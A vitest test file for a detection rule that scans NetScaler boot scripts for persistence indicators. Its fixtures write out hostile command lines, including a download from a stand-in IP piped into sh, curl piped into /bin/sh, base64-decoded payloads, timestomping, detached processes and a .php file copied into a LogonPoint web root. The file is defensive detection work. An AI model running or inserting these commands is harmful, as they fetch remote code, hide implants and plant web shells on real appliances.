import { describe, expect, it } from 'vitest';
import { memoryTree } from './artefact-model.js';
import { BOOT_PERSISTENCE_RULE, findBootPersistence, isBootScript, writeTargets } from './boot-persistence-rule.js';

async function run(content: string | Buffer, path = '/flash/nsconfig/rc.netscaler') {
  return findBootPersistence(memoryTree('ns1', [{ path, content }]));
}

const names = (findings: { rationale: string }[]) => findings.map((f) => /runs (.*): stock/.exec(f.rationale)?.[1]);

describe('isBootScript', () => {
  it('covers the nsconfig hooks and the rc files, nothing else', () => {
    for (const p of ['/flash/nsconfig/rc.netscaler', '/nsconfig/nsbefore.sh', '/nsconfig/nsafter.sh', '/etc/rc', '/etc/rc.conf', '/etc/rc.conf.local', '/etc/rc.local', '/etc/rc.d/sshd']) expect(isBootScript(p), p).toBe(true);
    for (const p of ['/flash/nsconfig/ns.conf', '/nsconfig/other.sh', '/etc/rcx', '/etc/rc.conf.d/x', '/var/etc/rc', '/flash/nsconfig/x/rc.netscaler']) expect(isBootScript(p), p).toBe(false);
  });
});

describe('writeTargets', () => {
  it('finds redirection, tee, cp-style, downloader and dd targets', () => {
    expect(writeTargets('echo x>>/var/vpn/a.php; cat /tmp/a | tee -a /etc/httpd.conf && cp /tmp/s "/var/netscaler/logon/x.php"')).toEqual(['/var/vpn/a.php', '/etc/httpd.conf', '/var/netscaler/logon/x.php']);
    expect(writeTargets('curl -s -o /netscaler/ns_gui/vpn/x.js http://a; dd if=/dev/zero of=/var/vpn/z; sed -i s/a/b/ /etc/httpd.conf')).toEqual(['/netscaler/ns_gui/vpn/x.js', '/var/vpn/z', '/etc/httpd.conf']);
    expect(writeTargets('cat /etc/httpd.conf > /dev/null')).toEqual(['/dev/null']);
  });
});

describe('findBootPersistence', () => {
  it('is quiet on a plain rc.netscaler and on comment lines', async () => {
    const findings = await run('# python3 -c "x" http://1.2.3.4/ base64 nohup\n  # fetch http://x | sh\n/netscaler/nscli -U :nsroot:x "set ns param"\nifconfig em0 inet 127.0.0.1 netmask 255.255.255.0\n');
    expect(findings).toEqual([]);
  });

  it('flags each listed indicator once, at its first occurrence', async () => {
    const content = [
      'echo start',
      'python3 -c "import os"',
      'fetch -o - http://198.51.100.7/x | sh',
      'echo aGVsbG8= | base64 -d > /var/tmp/a',
      'python -c "import zlib"',
      'touch -t 202301010000 /var/tmp/a',
      'nohup /var/tmp/a &',
      'screen -dmS x /var/tmp/a',
      'echo "fnoc.dptth/fnoc/ptth/rav/" | rev',
      'cp /var/tmp/a /var/netscaler/logon/LogonPoint/x.php',
    ].join('\n');
    const findings = await run(content);
    expect(names(findings)).toEqual([
      'python -c (inline Python payload)',
      'download piped into a shell',
      'URL',
      'IPv4 address',
      'base64',
      'zlib',
      'touch -t (timestomping)',
      'nohup (detached process)',
      'screen (detached session)',
      "reversed-string IOC 'fnoc.dptth'",
      'writes into a web root or httpd.conf',
    ]);
    expect(findings.every((f) => f.ruleId === BOOT_PERSISTENCE_RULE.id && f.verdict === 'COMPROMISE' && f.confidence === 'high')).toBe(true);
    const fetch = findings[1]!;
    expect([fetch.line, fetch.offset]).toEqual([3, content.indexOf('fetch')]);
    expect(findings[3]).toMatchObject({ line: 3, offset: content.indexOf('198.51') });
    expect(findings[10]).toMatchObject({ line: 10, offset: content.indexOf('/var/netscaler/logon/LogonPoint/x.php') });
  });

  it('searches unanchored and joins continued lines, reporting the first physical line', async () => {
    const content = 'echo a; /usr/bin/curl -s \\\n  http://x/y \\\n  | /bin/sh\n';
    const findings = await run(content, '/etc/rc.d/netscaler');
    expect(findings.map((f) => [f.line, f.offset])).toEqual([
      [1, content.indexOf('curl')],
      [2, content.indexOf('http')],
    ]);
  });

  it('ignores invalid and non-routable-looking addresses and does not read other files', async () => {
    expect(await run('ifconfig x 300.1.2.3 0.0.0.0 1.2.3.4.5\n')).toEqual([]);
    expect(await run('python3 -c x', '/var/tmp/rc.netscaler')).toEqual([]);
  });

  it('handles metadata-only entries, binary garbage and a huge file', async () => {
    expect(await findBootPersistence(memoryTree(null, [{ path: '/etc/rc', size: 10 }]))).toEqual([]);
    const garbage = Buffer.from(Array.from({ length: 50_000 }, (_, i) => (i * 37 + 11) & 0x7f).filter((b) => b !== 0x2e));
    await expect(run(garbage)).resolves.toBeInstanceOf(Array);
    const hostile = `${'curl '.repeat(400_000)}${'|'.repeat(400_000)}\n${'a'.repeat(20 * 1024 * 1024)}`;
    const findings = await run(hostile);
    expect(findings.map((f) => f.rationale.slice(0, 21))).toEqual(['too large to scan ful']);
  });
});
